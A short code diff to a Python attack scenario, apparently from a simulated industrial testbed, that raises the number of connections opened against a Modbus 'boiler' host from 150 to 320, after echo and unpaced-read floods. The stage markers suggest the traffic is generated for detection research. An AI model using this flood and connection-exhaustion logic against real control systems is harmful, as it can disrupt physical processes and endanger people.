@@ -18,7 +18,7 @@ _TOGETHER = 8
 
 
 async def attack(stage: Stage) -> None:
-    """Send 150 echo requests, then 6,400 reads within seconds without waiting, then open 150 connections."""
+    """Send 150 echo requests, then 6,400 reads within seconds without waiting, then open 320 connections."""
     target = CHEM.host("boiler").ip
     await stage.until(10)
     stage.mark()
@@ -38,7 +38,7 @@ async def attack(stage: Stage) -> None:
             await drain
     await stage.until(30)
     stage.mark()
-    writers = [(await asyncio.open_connection(target, MODBUS_PORT))[1] for _ in range(150)]
+    writers = [(await asyncio.open_connection(target, MODBUS_PORT))[1] for _ in range(320)]
     await stage.wait(1)
     for writer in writers:
         writer.close()
